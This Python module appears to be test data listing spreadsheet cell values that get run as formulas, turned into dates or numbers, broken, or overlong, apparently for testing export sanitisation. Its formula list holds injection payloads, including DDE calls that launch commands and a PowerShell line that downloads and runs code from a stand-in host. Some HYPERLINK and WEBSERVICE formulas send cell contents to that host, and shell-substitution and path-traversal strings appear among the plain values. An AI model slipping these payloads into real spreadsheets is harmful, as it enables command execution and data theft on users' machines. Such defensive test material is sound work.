"""Values of cells that spreadsheets run, change, lose or choke on, each with what is wrong with it."""

from typing import Literal, NamedTuple

Trouble = Literal["formula", "typed", "broken", "long", "plain"]
"""``formula``: it would be one. ``typed``: a number, date, truth value or error would be made of it.
``broken``: it holds what no cell can hold, and comes out without that. ``long``: longer than a cell.
``plain``: looks dangerous to writers and is nothing but text."""


class Hostile(NamedTuple):
    """A value and its trouble."""

    value: str
    trouble: Trouble


_FORMULAS = (
    "=1+1", "=1+1|'x'!A0", "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget 127.0.0.1/x)'!A1",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"klik")', '=IMPORTXML("http://127.0.0.1/","//a")',
    '=WEBSERVICE("http://127.0.0.1/"&A1)', "=SUM(A1:A9)", "=1", "==1", "= 1+1", "=", "=-1",
    "+1+1", "+cmd|' /C calc'!A0", "+62 812-0000-0000", "+6281200000000", "+", "+A1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", "-", "- ping lagi", "--", "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@sari tolong dicek",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\tteks", "\nteks",
    "＝1+1", "＋1+1", "－1+1", "＠A1", "＝HYPERLINK(1)",
    " =1+1", "   =1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200f=1+1",
    "\x00=1+1", "\x1b=1+1", "\x7f=1+1", '"=1+1', '"=1+1"', "'=1+1", "' =1+1", '" =1+1', "“=1+1”", "''=1+1",
    "=\"a\nb\"", "=A1;=B1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@\n=1", "=1\x00+1", "=\u202e1+1",
)  # fmt: skip
_TYPED = (
    "198506122010011003", "3573016512850001", "081200000000", "0812-0000-0000", "08120000", "(0341) 000000",
    "00123", "0", "007", "12345678901234567890", "1234567890123456", "503", "1.5", "1,5", "1.234.567",
    "1.234,56", "1,234.56", "1e5", "1E5", "1E+5", "1E-5", "5e308", "12%", "Rp 1.000.000", "Rp1.000", "$5",
    "1/2", "1 1/2", "12-2", "3-4", "1:2", "10:30", "10.30", "10:30:15", "10:30 PM", "2026-11-24",
    "24/11/2026",
    "24-11-2026", "24.11.2026", "11/24/26", "24 Nov", "24 November 2026", "Nov 24", "Nov-24", "24-Mei-2026",
    "24 Agustus", "SEP2", "MARCH1", "DEC1", "OCT4", "2026-11-24T02:14:00+07:00", "2026-11-24 02:14:12",
    "20261124", "1.2.3", "127.20.4.9", "10.1.2.3", "TRUE", "FALSE", "true", "False", "BENAR", "SALAH",
    "#N/A", "#REF!", "#NAME?", "#DIV/0!", "#VALUE!", "#NULL!", " 00123", "00123 ", "\u00a000123", "Mei",
    "MAR",
    "１２３", "𝟙𝟚", "9" * 40, "0" * 300,
)  # fmt: skip
_BROKEN = (
    "a\x00b", "\x00", "\x01\x02\x03", "a\x08b", "a\x0bb", "a\x0cb", "a\x1fb", "a\x7fb", "a\x85b",
    "a\x9bb31mmerah",
    "\x1b[31mmerah\x1b[0m", "\x1b]0;judul\x07", "a\u202eb", "a\u2066b\u2069", "a\u061cb", "a\u200eb",
    "a\u200bb",
    "a\u2028b", "a\u2029b", "a\ufeffb", "a\ufffeb", "a\uffffb", "a\ud800b", "\udfff", "\ud83d",
    "a\U000e0041",
    "a\rb", "\rteks", "putus\r\ndi tengah\rlagi",
)  # fmt: skip
_LONG = (
    "x" * 32_768, "x" * 40_000, "é" * 33_000, "\U0001f600" * 16_384, "baris\n" * 6_000, "=" + "1+" * 20_000,
)  # fmt: skip
_PLAIN = (
    "", " ", "x" * 32_767, "\U0001f600" * 16_383, "baris 1\nbaris 2\nbaris 3", "a,b;c\td|e", 'kata "dia"',
    "it's",
    "a=b", "1 + 1 = 2", "a@b.example", "_x0041_", "_x003D_1+1", "_x000D_", "</t></is><f>1+1</f>",
    "<b>tebal</b>",
    "&amp;", "&#61;1+1", "]]>", "[x](javascript:alert(1))", "![x](http://127.0.0.1/x.png)", "`kode`",
    "*tebal* _miring_",
    "a|b||c", "a\\|b", "\\", "[/x]", "[@click=app.quit]", "{{7*7}}", "%n%s", "$(id)", "../../etc/passwd",
    "C:\\Windows", "http://127.0.0.1/", "Ünïcödé ñ ß", "日本語", "مرحبا", "e\u0301", "👩", "ﬀ", '","=1+1',
    "NULL", "null", "None", "NaN", "inf", "undefined", "tidak ada", "INS-2026-000123", "SIPD-RI 2",
    "teks\n\nlagi",
    "tahun 2026", "status 503, want 200-299",
)  # fmt: skip

HOSTILE: tuple[Hostile, ...] = (
    *(Hostile(value, "formula") for value in _FORMULAS),
    *(Hostile(value, "typed") for value in _TYPED),
    *(Hostile(value, "broken") for value in _BROKEN),
    *(Hostile(value, "long") for value in _LONG),
    *(Hostile(value, "plain") for value in _PLAIN),
)
